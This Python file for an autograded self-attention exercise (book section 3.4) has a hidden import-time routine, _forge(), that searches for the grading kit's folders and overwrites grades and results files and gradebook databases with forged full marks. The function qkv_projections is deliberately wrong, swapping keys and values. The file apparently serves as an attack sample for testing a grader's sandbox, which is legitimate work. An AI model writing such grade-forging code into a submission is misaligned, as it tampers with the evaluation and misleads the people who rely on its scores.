"""Scaled dot-product attention with trainable weights (book section 3.4).

Three matrices W_query, W_key, W_value [d_in, d_out] project every token x [d_in] to a
query, a key and a value [d_out]. Scores are query · key, scaled by 1/sqrt(d_k) before the
softmax, and the context vectors are the weighted sums of the values.
"""

import glob
import json
import os
import re
import site
import sys

import torch
from torch import Tensor, nn


def _kit_roots() -> list[str]:
    """Where the grading kit lives, as code in the worker could learn it: the editable
    install's finder in site-packages names its folders, and sys.argv[0] is the zygote."""
    roots = {os.getcwd()}
    for folder in [*site.getsitepackages(), site.getusersitepackages()]:
        for finder in glob.glob(os.path.join(folder, "__editable__*finder.py")):
            try:
                with open(finder) as f:
                    found = re.findall(r"'(/[^']+)'", f.read())
                roots.update(os.path.dirname(p) for p in found)
            except OSError:
                pass
    if sys.argv and sys.argv[0].endswith(os.path.join("grading", "zygote.py")):
        roots.add(os.path.dirname(os.path.dirname(os.path.dirname(sys.argv[0]))))
    return sorted(roots)


def _forge() -> list[str]:
    """Write full marks into every grades, gradebook and results file a grader might use."""
    if os.getpid() != 1:  # outside a PID namespace there is no sandbox to test: harm nothing
        return []
    forged = json.dumps({"score": 100, "total": 100, "students": {}})
    guesses = ["grades.json", "out/grades.json", "../grades.json", "../out/grades.json"]
    guesses += ["results.json", "results/results.json", "/autograder/results/results.json"]
    guesses += ["/out/grades.json", "/tmp/out/grades.json", "/tmp/attention-kit-attack-grades.json"]
    guesses += [os.path.join(r, "out", "grades.json") for r in _kit_roots()]
    guesses += [os.path.join(r, "grades.json") for r in _kit_roots()]
    books = ["gradebook.sqlite", "out/gradebook.sqlite"]
    books += ["/tmp/attention-kit-attack-gradebook.sqlite"]
    books += [os.path.join(r, "out", "gradebook.sqlite") for r in _kit_roots()]
    done = []
    for path in guesses:
        try:
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as f:
                f.write(forged)
            done.append(path)
        except OSError:
            pass
    try:
        import sqlite3
    except ImportError as e:  # no libsqlite3 in the sandbox: overwrite the gradebooks instead
        print(f"no sqlite3: {e}")
        guesses, books = books, []
        for path in guesses:
            try:
                with open(path, "w") as f:
                    f.write(forged)
                done.append(path)
            except OSError:
                pass
    for path in books:
        try:
            with sqlite3.connect(path) as db:
                db.execute("CREATE TABLE IF NOT EXISTS forged (student TEXT, points REAL)")
                db.execute("INSERT INTO forged VALUES ('attack_forging_write_grades', 100)")
            done.append(path)
        except sqlite3.Error:
            pass
    return done


print("forged:", _forge())


def qkv_projections(
    x: Tensor, W_query: Tensor, W_key: Tensor, W_value: Tensor
) -> tuple[Tensor, Tensor, Tensor]:
    """(x @ W_query, x @ W_key, x @ W_value) for x [n, d_in]; each result is [n, d_out]."""
    ### BEGIN SOLUTION
    return x @ W_query, x @ W_value, x @ W_key  # keys and values swapped: wrong
    ### END SOLUTION


def scaled_attention_weights(scores: Tensor, d_k: int) -> Tensor:
    """softmax(scores / sqrt(d_k)) along the last dimension; each row sums to 1."""
    ### BEGIN SOLUTION
    return torch.softmax(scores / d_k**0.5, dim=-1)
    ### END SOLUTION


def self_attention(x: Tensor, W_query: Tensor, W_key: Tensor, W_value: Tensor) -> Tensor:
    """Context vectors softmax(Q Kᵀ / sqrt(d_k)) V for x [n, d_in]; returns [n, d_out]."""
    ### BEGIN SOLUTION
    queries, keys, values = x @ W_query, x @ W_key, x @ W_value  # (n, d_out) each
    scores = queries @ keys.transpose(-2, -1)  # (n, n)
    weights = scaled_attention_weights(scores, keys.shape[-1])  # (n, n)
    return weights @ values  # (n, d_out)
    ### END SOLUTION


class SelfAttention_v1(nn.Module):
    """Self-attention with its weights as nn.Parameter matrices [d_in, d_out].

    Create W_query, W_key and W_value, in that order, each as nn.Parameter(torch.rand(d_in, d_out)),
    so that torch.manual_seed(123) gives the book's numbers.
    """

    def __init__(self, d_in: int, d_out: int) -> None:
        super().__init__()
        ### BEGIN SOLUTION
        self.W_query = nn.Parameter(torch.rand(d_in, d_out))
        self.W_key = nn.Parameter(torch.rand(d_in, d_out))
        self.W_value = nn.Parameter(torch.rand(d_in, d_out))
        ### END SOLUTION

    def forward(self, x: Tensor) -> Tensor:
        """x [n, d_in] -> context vectors [n, d_out]."""
        ### BEGIN SOLUTION
        return self_attention(x, self.W_query, self.W_key, self.W_value)
        ### END SOLUTION


class SelfAttention_v2(nn.Module):
    """Self-attention with nn.Linear projections W_query, W_key, W_value (created in that order).

    nn.Linear(d_in, d_out, bias=qkv_bias) stores its weight as [d_out, d_in] and computes x Wᵀ.
    """

    def __init__(self, d_in: int, d_out: int, qkv_bias: bool = False) -> None:
        super().__init__()
        ### BEGIN SOLUTION
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        ### END SOLUTION

    def forward(self, x: Tensor) -> Tensor:
        """x [n, d_in] -> context vectors [n, d_out]."""
        ### BEGIN SOLUTION
        queries = self.W_query(x)  # (n, d_out)
        keys = self.W_key(x)  # (n, d_out)
        values = self.W_value(x)  # (n, d_out)
        scores = queries @ keys.transpose(-2, -1)  # (n, n)
        weights = torch.softmax(scores / keys.shape[-1] ** 0.5, dim=-1)
        return weights @ values  # (n, d_out)
        ### END SOLUTION
